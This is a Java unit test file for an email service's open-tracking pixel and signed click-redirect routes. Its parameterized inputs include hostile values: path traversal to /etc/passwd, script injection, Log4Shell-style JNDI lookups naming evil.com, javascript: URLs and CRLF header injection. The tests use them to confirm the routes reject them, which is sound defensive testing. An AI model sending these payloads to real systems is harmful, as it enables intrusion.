package io.mailblast.tracking;

import static org.assertj.core.api.Assertions.assertThat;

import io.mailblast.content.MessageLinks;
import io.mailblast.event.EventLog;
import io.mailblast.event.EventLogConfig;
import io.mailblast.event.FileEventLog;
import io.mailblast.http.HttpMetrics;
import io.mailblast.key.Keyring;
import io.mailblast.key.LinkSigner;
import io.mailblast.key.MessageId;
import io.mailblast.key.MessageIdCodec;
import io.mailblast.testing.RawHttp;
import io.mailblast.testing.TestServer;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.InstantSource;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// There is no database here at all: tracking needs none.
@SuppressWarnings("NullAway.Init")
class TrackingRoutesTest {

    private static final MessageId MESSAGE = new MessageId(3, 14, 159, 0);
    private static final String TARGET = "https://example.com/path?q=1&r=ü";

    @TempDir
    Path folder;

    private final SimpleMeterRegistry registry = new SimpleMeterRegistry();
    private FileEventLog log;
    private MessageIdCodec identifiers;
    private LinkSigner signer;
    private TestServer server;

    @BeforeEach
    void start() throws IOException {
        log = FileEventLog.open(
                folder.resolve("log"),
                new EventLogConfig(EventLogConfig.Durability.FSYNC, 64 << 10, 128 << 10, Duration.ZERO, 1_000, 7),
                registry);
        identifiers = MessageIdCodec.tracking(Keyring.open(folder.resolve("keys"), "tracking"));
        signer = new LinkSigner(Keyring.open(folder.resolve("keys"), "links"));
        server = new TestServer(routes(TrackingConfig.DEFAULTS));
    }

    @AfterEach
    void close() {
        server.close();
        log.close();
    }

    @Test
    void anOpenIsAPixelAndAnEvent() {
        HttpResponse<String> answer = open(identifiers.write(MESSAGE));

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.headers().firstValue("Content-Type")).hasValue("image/gif");
        assertThat(answer.headers().firstValue("Content-Length")).hasValue("43");
        assertThat(answer.headers().firstValue("Cache-Control"))
                .hasValueSatisfying(v -> assertThat(v).contains("no-store"));
        assertThat(recorded()).isEqualTo(1);
        assertThat(count("opens")).isEqualTo(1);
    }

    @Test
    void aSignedClickRedirectsAndIsAnEvent() {
        HttpResponse<String> answer =
                click(identifiers.write(MESSAGE), TARGET, signer.sign(3, TARGET, LinkSigner.NO_PLACE));

        assertThat(answer.statusCode()).isEqualTo(302);
        assertThat(answer.headers().firstValue("Location")).hasValue("https://example.com/path?q=1&r=%C3%BC");
        assertThat(recorded()).isEqualTo(1);
        assertThat(count("clicks")).isEqualTo(1);
    }

    @Test
    void aLinkThatNamesItsPlaceIsFollowedWithItAlone() {
        String id = identifiers.write(MESSAGE);
        String signature = signer.sign(3, TARGET, 4);

        assertThat(click(id, TARGET, signature + "&l=4").statusCode()).isEqualTo(302);
        assertThat(click(id, TARGET, signature + "&l=5").statusCode()).isEqualTo(200);
        assertThat(click(id, TARGET, signature).statusCode()).isEqualTo(200);
        assertThat(click(id, TARGET, signature + "&l=x").statusCode()).isEqualTo(400);
        assertThat(click(id, TARGET, signature + "&l=10001").statusCode()).isEqualTo(400);
        assertThat(recorded()).isEqualTo(1);
    }

    @Test
    void whoFollowsTheLinkThatNobodySeesIsAScanner() {
        String signature = signer.sign(3, TARGET, MessageLinks.UNSEEN);

        HttpResponse<String> answer =
                click(identifiers.write(MESSAGE), TARGET, signature + "&l=" + MessageLinks.UNSEEN);

        assertThat(answer.statusCode()).isEqualTo(302);
        assertThat(recorded()).isEqualTo(1);
        assertThat(count("probes")).isEqualTo(1);
        assertThat(count("clicks")).isZero();
    }

    @Test
    void aLinkThatNobodySignedIsShownAndNotFollowed() {
        String hostile = "https://evil.example/\"><script>alert(1)</script>";

        HttpResponse<String> answer = click(identifiers.write(MESSAGE), hostile, "");

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.body()).contains("evil.example").doesNotContain("<script>");
        assertThat(answer.headers().firstValue("Content-Security-Policy"))
                .hasValueSatisfying(policy -> assertThat(policy).startsWith("default-src 'none'"));
        assertThat(recorded()).isZero();
        assertThat(count("unsigned")).isEqualTo(1);
    }

    @Test
    void aSignatureIsGoodForItsWorkspaceAndItsLinkOnly() {
        String id = identifiers.write(MESSAGE);

        assertThat(click(id, TARGET, signer.sign(4, TARGET, LinkSigner.NO_PLACE))
                        .statusCode())
                .isEqualTo(200);
        assertThat(click(id, TARGET + "x", signer.sign(3, TARGET, LinkSigner.NO_PLACE))
                        .statusCode())
                .isEqualTo(200);
        assertThat(recorded()).isZero();
    }

    @Test
    void whatWasNeverIssuedIsAnsweredAlikeAndCountedAsAnAttempt() {
        String forged = "A".repeat(40);

        assertThat(open(forged).statusCode()).isEqualTo(200);
        assertThat(open(forged).body())
                .isEqualTo(open(identifiers.write(MESSAGE)).body());
        HttpResponse<String> click = click(forged, TARGET, "");
        assertThat(click.statusCode()).isEqualTo(200);
        assertThat(click.body())
                .isEqualTo(click(identifiers.write(MESSAGE), TARGET, "").body());
        assertThat(count("forged")).isEqualTo(3);
        assertThat(recorded()).isEqualTo(1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "..%2F..%2Fetc%2Fpasswd",
                "%3Cscript%3E",
                "$%7Bjndi:ldap:%2F%2Fx%7D",
                "a%20b",
                "%00",
                "a.b",
                "%C3%BC"
            })
    void anIdentifierThatIsNotWellFormedIsRefused(String text) {
        assertThat(open(text).statusCode()).isIn(400, 404);
        assertThat(click(text, TARGET, "").statusCode()).isIn(400, 404);
        assertThat(open("a".repeat(65)).statusCode()).isIn(400, 404);
        assertThat(recorded()).isZero();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:alert(1)",
                "data:text/html,x",
                "https://user:pw@example.com/",
                "https://example.com/\r\nX: y",
                "no link",
            })
    void aTargetThatIsNoneNamesTheParameter(String url) {
        HttpResponse<String> answer = click(identifiers.write(MESSAGE), url, signer.sign(3, url, LinkSigner.NO_PLACE));

        assertThat(answer.statusCode()).isEqualTo(400);
        assertThat(TestServer.json(answer).at("/errors/0/field").asText()).isEqualTo("url");
        assertThat(recorded()).isZero();
    }

    @Test
    void aTargetThatIsMissingOrOverlongOrNoBase64NamesTheParameter() {
        String id = identifiers.write(MESSAGE);
        for (String query : new String[] {"", "?url=", "?url=%%%", "?url=" + "A".repeat(12_000), "?url=a&url=b"}) {
            HttpResponse<String> answer = get("/track/click/" + id + query.replace("%%%", "%25%25"));
            assertThat(answer.statusCode()).as(query).isEqualTo(400);
            assertThat(TestServer.json(answer).at("/errors/0/field").asText()).isEqualTo("url");
        }
    }

    @Test
    void standardBase64InAQueryWithPlusSignsIsRead() {
        String url = "https://example.com/?>>>~~~";
        String plain = Base64.getEncoder().encodeToString(url.getBytes(StandardCharsets.UTF_8));
        assertThat(plain).contains("+");

        HttpResponse<String> answer = get("/track/click/" + identifiers.write(MESSAGE) + "?url="
                + plain.replace("=", "%3D") + "&s=" + signer.sign(3, url, LinkSigner.NO_PLACE));

        assertThat(answer.statusCode()).isEqualTo(302);
    }

    @Test
    void headAnswersAndIsKeptButNoOpenAndNoClick() {
        String id = identifiers.write(MESSAGE);

        assertThat(server.call("HEAD", "/track/open/" + id, "", null).statusCode())
                .isEqualTo(200);
        assertThat(server.call("HEAD", query(id, TARGET, signer.sign(3, TARGET, LinkSigner.NO_PLACE)), "", null)
                        .statusCode())
                .isEqualTo(302);
        assertThat(log.read(log.start(), 10).entries())
                .hasSize(2)
                .allSatisfy(entry -> assertThat(((EventLog.Entry.Recorded) entry).payload()[1])
                        .as("kind")
                        .isEqualTo((byte) 7));
        assertThat(registry.counter("mailblast.tracking.probes").count()).isEqualTo(2);
        assertThat(registry.counter("mailblast.tracking.opens").count()).isZero();
    }

    @Test
    void testMailsAndThoseWhoAreNotTrackedAreAnsweredAndNotCounted() {
        for (int flag : new int[] {MessageId.TEST, MessageId.NO_TRACKING}) {
            String id = identifiers.write(new MessageId(3, 14, 159, flag));
            assertThat(open(id).statusCode()).isEqualTo(200);
            assertThat(click(id, TARGET, signer.sign(3, TARGET, LinkSigner.NO_PLACE))
                            .statusCode())
                    .isEqualTo(302);
        }
        assertThat(recorded()).isZero();
    }

    @Test
    void withAFullLogOpensWaitAndClicksGoOn() {
        String id = identifiers.write(MESSAGE);
        HttpResponse<String> last = open(id);
        for (int i = 0; i < 20_000 && last.statusCode() == 200; i++) {
            last = open(id);
        }

        assertThat(last.statusCode()).isEqualTo(503);
        assertThat(last.headers().firstValue("Retry-After")).isPresent();
        assertThat(click(id, TARGET, signer.sign(3, TARGET, LinkSigner.NO_PLACE))
                        .statusCode())
                .isEqualTo(302);
        assertThat(count("unrecorded")).isEqualTo(2);
    }

    @Test
    void whatIsRefusedNamesItsParameter() {
        String id = identifiers.write(MESSAGE);
        for (String path : List.of(
                "/track/open/a.b",
                "/track/open/%ff",
                "/track/open/" + "a".repeat(65),
                "/track/open/..%2F..%2F..%2Fetc%2Fpasswd",
                "/track/open/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "/track/open/$%7Bjndi:ldap:%2F%2Fevil.com%7D",
                "/track/click/a.b?url=aHR0cHM6Ly9leGFtcGxlLmNvbS8")) {
            HttpResponse<String> answer = get(path);
            assertThat(answer.statusCode()).as(path).isEqualTo(400);
            assertThat(TestServer.json(answer).at("/errors/0/field").asText())
                    .as(path)
                    .isEqualTo("messageId");
        }
        assertThat(get("/track/click/" + id + "?url=aHR0cHM6Ly9leGFtcGxlLmNvbS8&s=" + "x".repeat(201))
                        .body())
                .contains("\"field\":\"s\"");
    }

    @Test
    void underAFloodOfMalformedRequestsRealOnesFromTheSameAddressAreAnsweredAndCounted() {
        String id = identifiers.write(MESSAGE);
        try (TestServer limited = new TestServer(TestServer.limited(1), registry, routes(TrackingConfig.DEFAULTS))) {
            int refused = 0;
            for (int i = 0; i < 40; i++) {
                refused += limited.get("/track/open/a.b", "").statusCode() == 429 ? 1 : 0;
                assertThat(limited.get("/track/open/" + id, "").statusCode()).isEqualTo(200);
                assertThat(limited.get("/track/open/" + "A".repeat(40), "").statusCode())
                        .as("forged")
                        .isEqualTo(200);
            }
            assertThat(refused).isGreaterThan(10);
        }
        assertThat(recorded()).isEqualTo(40);
        assertThat(HttpMetrics.suspicious(registry, "forged").count()).isEqualTo(40);
    }

    @Test
    void withMoreThanMayWaitOpensAreRefusedAtOnceAndClicksGoOnUnrecorded() throws Exception {
        String id = identifiers.write(MESSAGE);
        String open = "/track/open/" + id;
        String click = query(id, TARGET, signer.sign(3, TARGET, LinkSigner.NO_PLACE));
        Map<Integer, AtomicInteger> opens = Map.of(200, new AtomicInteger(), 503, new AtomicInteger());
        Map<Integer, AtomicInteger> clicks = Map.of(302, new AtomicInteger());
        TrackingConfig few = new TrackingConfig("x", 10, Duration.ofSeconds(10), true);
        try (FileEventLog large = FileEventLog.open(folder.resolve("large"), EventLogConfig.DEFAULTS, registry);
                TestServer busy = new TestServer(
                        new TrackingRoutes(large, identifiers, signer, InstantSource.system(), registry, few))) {
            long end = System.nanoTime() + Duration.ofSeconds(30).toNanos();
            List<Thread> clients = IntStream.range(0, 200)
                    .mapToObj(number -> Thread.ofVirtual().start(() -> {
                        try (RawHttp connection = new RawHttp(busy.server().port())) {
                            do {
                                status(opens, connection, open);
                                status(clicks, connection, click);
                            } while (count("shed") < 100 && System.nanoTime() < end);
                        }
                    }))
                    .toList();
            for (Thread client : clients) {
                client.join();
            }

            double recorded = count("opens") + count("clicks");
            assertThat(opens.get(503).get()).isPositive();
            assertThat(clicks.get(302).get()).isGreaterThanOrEqualTo(200);
            assertThat(count("opens")).isEqualTo(opens.get(200).get());
            assertThat(count("shed")).isEqualTo(count("unrecorded"));
            assertThat(count("shed") + recorded)
                    .isEqualTo(opens.get(200).get()
                            + opens.get(503).get()
                            + clicks.get(302).get());
            assertThat(entries(large)).as("in the log").isEqualTo((int) recorded);
            assertThat(large.isBusy(1, Duration.ZERO)).as("afterwards").isFalse();
        }
    }

    private static void status(Map<Integer, AtomicInteger> counts, RawHttp connection, String path) {
        int status = connection
                .write("GET " + path + " HTTP/1.1\r\nHost: x\r\n\r\n")
                .read()
                .status();
        counts.get(status).incrementAndGet();
    }

    private static int entries(EventLog log) {
        int entries = 0;
        EventLog.Batch batch = log.read(log.start(), 100_000);
        while (!batch.entries().isEmpty()) {
            entries += batch.entries().size();
            batch = log.read(batch.next(), 100_000);
        }
        return entries;
    }

    private TrackingRoutes routes(TrackingConfig config) {
        return new TrackingRoutes(log, identifiers, signer, InstantSource.system(), registry, config);
    }

    private HttpResponse<String> open(String id) {
        return get("/track/open/" + id);
    }

    private HttpResponse<String> click(String id, String url, String signature) {
        return get(query(id, url, signature));
    }

    private static String query(String id, String url, String signature) {
        return "/track/click/" + id + "?url="
                + Base64.getUrlEncoder().withoutPadding().encodeToString(url.getBytes(StandardCharsets.UTF_8))
                + (signature.isEmpty() ? "" : "&s=" + signature);
    }

    private HttpResponse<String> get(String path) {
        return server.get(path, "");
    }

    private int recorded() {
        EventLog.Batch batch = log.read(log.start(), 1_000);
        return batch.entries().size();
    }

    private double count(String name) {
        return registry.get("mailblast.tracking." + name).counter().count();
    }
}
